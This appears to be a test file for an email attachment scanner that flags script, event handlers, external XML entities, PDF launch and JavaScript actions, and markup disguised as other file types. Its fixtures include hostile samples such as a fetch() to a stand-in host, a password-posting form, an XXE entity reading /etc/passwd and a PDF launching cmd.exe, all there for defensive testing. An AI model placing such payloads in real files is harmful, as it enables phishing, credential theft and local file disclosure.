// What can run or reach out inside an attachment: script in HTML, SVG and XML, actions in a PDF,
// and markup hiding behind a document's name. Each is held for a person; the same file without
// it is an ordinary report.
import {
  AttachmentInspector,
  type DeclaredAttachment,
} from '../../../functions/src/adapters/mail/inspect-attachment';
import { MarkupScanner, PdfScanner, sniffMarkup } from '../../../functions/src/adapters/mail/active-content';

const HTML: DeclaredAttachment = { filename: 'report.html', contentType: 'text/html' };
const SVG: DeclaredAttachment = { filename: 'chart.svg', contentType: 'image/svg+xml' };
const XML: DeclaredAttachment = { filename: 'data.xml', contentType: 'application/xml' };
const PDF: DeclaredAttachment = { filename: 'report.pdf', contentType: 'application/pdf' };
const BINARY: DeclaredAttachment = { filename: null, contentType: 'application/octet-stream' };

function findings(text: string | Buffer, declared: DeclaredAttachment, chunk = 0): readonly string[] {
  const bytes = typeof text === 'string' ? Buffer.from(text, 'latin1') : text;
  const inspector = new AttachmentInspector(declared);
  const size = chunk === 0 ? bytes.length || 1 : chunk;
  for (let i = 0; i < bytes.length; i += size) inspector.update(bytes.subarray(i, i + size));
  return inspector.finish().findings;
}

/** A minimal PDF: a catalog, one page, and whatever else the test adds to the catalog. */
function pdf(catalogExtra = '', objects = ''): string {
  return [
    '%PDF-1.7',
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
    objects,
    'trailer << /Root 1 0 R >>',
    '%%EOF',
  ].join('\n');
}

const WORD_HTML =
  '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv=Content-Type content="text/html; charset=windows-1252">' +
  '<style>p.MsoNormal {margin:0cm}</style></head><body lang=EN-GB style="tab-interval:36.0pt">' +
  '<p class=MsoNormal>Health visiting report. The family was seen on 12 November; online = no.</p></body></html>';

describe('HTML, SVG and XML attachments', () => {
  test('an HTML page saved from Word, with no script, is an ordinary report', () => {
    expect(findings(WORD_HTML, HTML)).toEqual([]);
  });

  test.each([
    [
      'a script element',
      '<html><body><p>Report</p><script>location="https://x.example"</script></body></html>',
    ],
    ['an event handler', '<html><body onload="fetch(\'https://x.example\')"><p>Report</p></body></html>'],
    ['an event handler on an image', '<p>Report</p><img src=x onerror=alert(1)>'],
    ['a javascript: link', '<p><a href="javascript:steal()">Open the report</a></p>'],
    ['a javascript: link with the colon as an entity', '<a href="javascript&#58;go()">x</a>'],
    ['a vbscript: link', '<a href="VBScript:msgbox(1)">x</a>'],
    ['an iframe', '<p>Report</p><iframe src="https://x.example/login"></iframe>'],
    ['a form that posts a password', '<form action="https://x.example"><input type=password></form>'],
    [
      'a meta refresh that sends the reader elsewhere',
      '<meta http-equiv="refresh" content="0;url=https://x.example">',
    ],
    ['an embedded object', '<object data="x.swf"></object>'],
  ])('holds HTML with %s', (_what, html) => {
    expect(findings(html, HTML)).toEqual(['active-content']);
  });

  test('finds a script tag split across two chunks', () => {
    const html = `<p>${'report '.repeat(2000)}</p><script>go()</script>`;
    for (const chunk of [1, 7, 4096]) expect(findings(html, HTML, chunk)).toEqual(['active-content']);
  });

  test('holds an SVG with a script or an event handler, not a plain drawing', () => {
    const plain =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/></svg>';
    expect(findings(plain, SVG)).toEqual([]);
    expect(findings(plain.replace('<rect', '<script>alert(1)</script><rect'), SVG)).toEqual([
      'active-content',
    ]);
    expect(findings(plain.replace('<rect', '<rect onclick="go()"'), SVG)).toEqual(['active-content']);
    expect(findings(plain.replace('<rect', '<foreignObject><p>x</p></foreignObject><rect'), SVG)).toEqual([
      'active-content',
    ]);
  });

  test('holds XML that declares an external entity (a reader would fetch it or read a local file)', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    expect(findings(xxe, XML)).toEqual(['active-content']);
    expect(findings('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "inline text">]><r>&x;</r>', XML)).toEqual(
      [],
    );
  });

  test('an XHTML page naming its public DTD is not taken for an external entity', () => {
    const xhtml =
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">' +
      '<html><body><p>Report</p></body></html>';
    expect(findings(xhtml, HTML)).toEqual([]);
  });

  test('scans markup whatever it is named, when its bytes are markup', () => {
    const page = '<!DOCTYPE html><html><body><script>go()</script></body></html>';
    expect(findings(page, BINARY)).toEqual(['active-content']);
    expect(findings(page, { filename: 'notes.txt', contentType: 'text/plain' })).toEqual(['active-content']);
  });

  test('does not scan a PDF or a Word file for HTML words', () => {
    expect(findings(pdf('', '4 0 obj (<script> is a word in this report) endobj'), PDF)).toEqual([]);
  });
});

describe('markup behind a document’s name', () => {
  test.each([
    ['an HTML page named as a PDF', '<html><body><p>Please sign in</p></body></html>', PDF],
    [
      'an SVG named as a PNG',
      '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
      { filename: 'scan.png', contentType: 'image/png' },
    ],
    [
      'markup declared as a Word document with no name',
      '<html><p>x</p></html>',
      { filename: null, contentType: 'application/msword' },
    ],
  ])('holds %s', (_what, text, declared) => {
    expect(findings(text, declared)).toContain('disguised-content');
  });

  test('a plain text file that happens to start with a tag is not disguised', () => {
    expect(findings('<p>notes</p>', { filename: 'notes.txt', contentType: 'text/plain' })).toEqual([]);
  });
});

describe('PDF actions', () => {
  test('an ordinary PDF has none', () => {
    expect(findings(pdf(), PDF)).toEqual([]);
  });

  test.each([
    ['document JavaScript', pdf('/Names << /JavaScript 4 0 R >>', '4 0 obj << /Names [(a) 5 0 R] >> endobj')],
    ['an open action running JavaScript', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a launch action', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['an embedded file', pdf('/Names << /EmbeddedFiles 4 0 R >>')],
    ['rich media (Flash)', pdf('', '4 0 obj << /Type /Annot /Subtype /RichMedia >> endobj')],
    ['a name hidden with #xx escapes', pdf('/OpenAction << /S /#4Caun#63h /F (cmd.exe) >>')],
  ])('holds a PDF with %s', (_what, text) => {
    expect(findings(text, PDF)).toEqual(['pdf-actions']);
  });

  test('finds a name split across chunks, in any split', () => {
    const text = pdf('/OpenAction << /S /Launch >>');
    for (let at = 0; at <= text.length; at++) {
      const scanner = new PdfScanner();
      scanner.update(Buffer.from(text.slice(0, at), 'latin1'));
      scanner.update(Buffer.from(text.slice(at), 'latin1'));
      scanner.finish();
      expect(scanner.found).toBe(true);
    }
  });

  test('does not take a longer name that starts the same for an action', () => {
    expect(findings(pdf('/JSFoo 1 /Launcher 2 /JavaScriptish 3'), PDF)).toEqual([]);
  });

  test('checks a PDF named otherwise, found by its header', () => {
    expect(findings(pdf('/OpenAction << /S /Launch >>'), BINARY)).toEqual(['pdf-actions']);
  });
});

describe('sniffing', () => {
  test.each([
    ['\ufeff<!DOCTYPE html><html>', 'html'],
    ['  <html lang="en">', 'html'],
    ['<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">', 'svg'],
    ['<?xml version="1.0"?><report/>', 'xml'],
    ['%PDF-1.4', null],
    ['Dear coordinator, <b>', null],
  ])('%j is %s', (start, kind) => {
    expect(sniffMarkup(Buffer.from(start, 'utf8'))).toBe(kind);
  });

  test('a scanner given nothing finds nothing', () => {
    expect(new MarkupScanner().found).toBe(false);
  });
});
